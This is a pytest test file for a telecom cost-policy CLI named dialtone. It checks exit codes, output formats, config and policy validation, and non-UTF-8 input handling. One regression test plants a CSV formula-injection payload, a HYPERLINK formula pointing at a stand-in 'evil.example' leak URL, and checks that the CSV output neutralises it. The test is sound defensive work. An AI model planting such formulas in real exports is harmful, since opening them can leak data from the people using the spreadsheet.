"""The dialtone command: exit codes, formats, and user errors without tracebacks."""

from __future__ import annotations

import csv
import io
import json

import pytest

from .conftest import policy_text


def run(runner, cli, workspace, *args, env=None):
    return runner.invoke(cli, ["--config", str(workspace / "dialtone.yaml"), *args],
                         env=env, catch_exceptions=False)


def test_the_minimal_config_works_exactly_as_written(runner, cli, workspace, monkeypatch):
    monkeypatch.chdir(workspace)  # ./dialtone.yaml is found without --config
    result = runner.invoke(cli, ["collect", "--as-of", "2026-06-30"], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    assert "lines" in result.output and "3 rows" in result.output
    assert (workspace / ".dialtone" / "snapshots").is_dir()
    result = runner.invoke(cli, ["evaluate", "--format", "json"], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    doc = json.loads(result.stdout)
    ids = {r["policy_id"] for r in doc["results"]}
    assert "cost.zero-usage-lines" in ids           # the built-in packs are used


def test_evaluate_formats_and_output_file(runner, cli, workspace):
    run(runner, cli, workspace, "collect", "--as-of", "2026-06-30")
    table = run(runner, cli, workspace, "evaluate", "--policy", "cost.zero-usage-lines")
    assert "alarm" in table.output and "cost.zero-usage-lines" in table.output
    out = workspace / "findings.csv"
    result = run(runner, cli, workspace, "evaluate", "--policy", "cost.zero-usage-lines",
                 "--format", "csv", "--output", str(out))
    assert result.exit_code == 0
    rows = list(csv.reader(io.StringIO(out.read_text(), newline="")))
    assert rows[0][:5] == ["policy_id", "severity", "category", "resource_type", "resource_id"]
    assert [r[4] for r in rows[1:]] == ["L1"]


def test_evaluate_csv_cells_cannot_run_as_spreadsheet_formulas(runner, cli, workspace):
    # C-4: an estate id written as a formula reached the CSV raw; it goes through the one CSV
    # writer (engine/csvsafe.py) now: a leading ', every text cell quoted.
    evil = '=HYPERLINK("http://evil.example/?leak","open me")'
    with (workspace / "estate" / "lines.csv").open("a", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([[evil, "mobile", "active", "+15551230008", "40", "2024-01-10", "P1", ""],
                                  ["@SUM(1+1)", "mobile", "active", "+15551230009", "40", "2024-01-10",
                                   "P1", ""]])
    with (workspace / "estate" / "usage.csv").open("a", newline="", encoding="utf-8") as fh:
        # Silent every month of the window, like L1: idle lines, found.
        csv.writer(fh).writerows([[line, f"2026-0{m}", "", "0", "0", "0"]
                                  for line in (evil, "@SUM(1+1)") for m in range(1, 7)])
    run(runner, cli, workspace, "collect", "--as-of", "2026-06-30")
    result = run(runner, cli, workspace, "evaluate", "--dry-run", "--policy", "cost.zero-usage-lines",
                 "--format", "csv")
    assert result.exit_code == 0
    rows = list(csv.reader(io.StringIO(result.stdout, newline="")))
    assert sorted(r[4] for r in rows[1:]) == ["'" + evil, "'@SUM(1+1)", "L1"]
    assert f'"\'{evil.replace(chr(34), chr(34) * 2)}"' in result.stdout     # quoted, quotes doubled


def test_fail_on_severity_sets_the_exit_code(runner, cli, workspace):
    run(runner, cli, workspace, "collect", "--as-of", "2026-06-30")
    args = ("evaluate", "--policy", "cost.zero-usage-lines", "--fail-on")
    assert run(runner, cli, workspace, *args, "medium").exit_code == 1   # a medium finding
    assert run(runner, cli, workspace, *args, "high").exit_code == 0


@pytest.mark.parametrize(("args", "message"), [
    (("evaluate",), "No snapshot yet"),
    (("snapshots", "show", "nope"), "No snapshot 'nope'"),
    (("policy", "show", "cost.zero-usage-line"), "Did you mean 'cost.zero-usage-lines'?"),
])
def test_user_errors_exit_2_with_one_clear_message(runner, cli, workspace, args, message):
    result = run(runner, cli, workspace, *args)
    assert result.exit_code == 2
    assert message in result.output
    assert "Traceback" not in result.output


def test_an_invalid_config_is_reported_with_its_line(runner, cli, tmp_path):
    cfg = tmp_path / "dialtone.yaml"
    cfg.write_text("sources:\n  estate:\n    path: ./estate\n")
    result = runner.invoke(cli, ["--config", str(cfg), "collect"])
    assert result.exit_code == 2
    assert "'collector' is a required property" in result.output
    assert "Traceback" not in result.output


def test_policy_validate_exits_1_and_names_file_and_line(runner, cli, tmp_path):
    (tmp_path / "good.yaml").write_text(policy_text("status = 'active'"))
    (tmp_path / "bad.yaml").write_text(
        policy_text("status = 'active' AND getenv('HOME') = ''").replace("test.policy", "test.bad"))
    result = runner.invoke(cli, ["policy", "validate", str(tmp_path)])
    assert result.exit_code == 1
    assert "bad.yaml:7:25: where: function getenv() is not allowed" in result.output
    assert "1 of 2 policies valid" in result.output
    ok = runner.invoke(cli, ["policy", "validate", str(tmp_path / "good.yaml")])
    assert ok.exit_code == 0


def test_policy_show_prints_sql_for_each_engine_and_what_it_reads(runner, cli, workspace):
    result = run(runner, cli, workspace, "policy", "show", "cost.zero-usage-lines")
    assert result.exit_code == 0
    assert "-- duckdb" in result.output and "-- spark" in result.output
    assert "reads: accounts, calls, lines, people, usage" in result.output
    assert "binds: :idle_days, :purposes, :snapshot_date, :snapshot_timezone" in result.output


def test_policy_test_reports_per_case_and_fails_on_a_broken_expectation(runner, cli, tmp_path):
    (tmp_path / "p.yaml").write_text(policy_text("status = 'active'"))
    (tmp_path / "p.test.yaml").write_text(
        "estate:\n  lines:\n    - {id: L1, kind: mobile, status: active}\n"
        "    - {id: L2, kind: mobile, status: cancelled}\n"
        "cases:\n  - name: right\n    found: [L1]\n    not_found: [L2]\n"
        "  - name: wrong\n    found: [L2]\n")
    result = runner.invoke(cli, ["policy", "test", str(tmp_path)])
    assert result.exit_code == 1
    assert "PASS test.policy: right" in result.output
    assert "FAIL test.policy: wrong" in result.output and "not found: L2" in result.output
    assert "1 passed, 1 failed" in result.output


def test_snapshots_list_and_show_json_prints_the_manifest(runner, cli, workspace):
    run(runner, cli, workspace, "collect", "--as-of", "2026-06-30")
    listed = run(runner, cli, workspace, "snapshots", "list", "--format", "json")
    (snap,) = json.loads(listed.output)
    shown = run(runner, cli, workspace, "snapshots", "show", snap["id"], "--format", "json")
    manifest = json.loads(shown.output)
    assert manifest["id"] == snap["id"] and manifest["as_of"] == "2026-06-30"
    text = run(runner, cli, workspace, "snapshots", "show", "latest")
    assert "integrity: OK" in text.output


def test_schema_prints_the_reference(runner, cli):
    result = runner.invoke(cli, ["schema", "lines"])
    assert "`owner` → people" in result.output
    assert runner.invoke(cli, ["schema", "linez"]).exit_code == 2
    doc = json.loads(runner.invoke(cli, ["schema", "people", "--format", "json"]).output)
    assert doc["$schema"] == "https://json-schema.org/draft/2020-12/schema"


def test_overrides_for_an_unknown_policy_are_warned_about(runner, cli, workspace):
    cfg = workspace / "dialtone.yaml"
    cfg.write_text(cfg.read_text() + "params:\n  cost.zero-usage-line: {idle_days: 5}\n")
    run(runner, cli, workspace, "collect", "--as-of", "2026-06-30")
    result = run(runner, cli, workspace, "evaluate", "--policy", "cost.zero-usage-lines")
    assert result.exit_code == 0
    assert ("warning: params.cost.zero-usage-line: no such policy. "
            "Did you mean 'cost.zero-usage-lines'?") in result.output


@pytest.mark.parametrize("args", [
    ("findings", "comment", "21", "bad \udced\udca0\udc80", "--actor", "tester"),  # bad \xed\xa0\x80
    ("findings", "comment", "21", "fine", "--actor", "te\udcffster"),
    ("policy", "validate", "\udcff.yaml"),
])
def test_an_argument_that_is_not_utf8_is_refused_before_any_command_runs(runner, cli, workspace, args):
    # the comment reached the history's hash and failed there with a traceback.
    result = run(runner, cli, workspace, *args)
    assert result.exit_code == 2
    assert result.output.startswith("error: an argument is not valid UTF-8 text: '")
    assert "\\xed\\xa0\\x80'" in result.output or "\\xff" in result.output
    assert "Traceback" not in result.output


def test_an_actor_from_the_environment_that_is_not_utf8_is_refused(runner, cli, workspace):
    run(runner, cli, workspace, "collect", "--as-of", "2026-06-30")
    result = run(runner, cli, workspace, "evaluate", env={"DIALTONE_USER": "a\udcffb"})
    assert result.exit_code == 2
    assert result.output == "error: $DIALTONE_USER or the login name is not valid UTF-8 text: 'a\\xffb'\n"
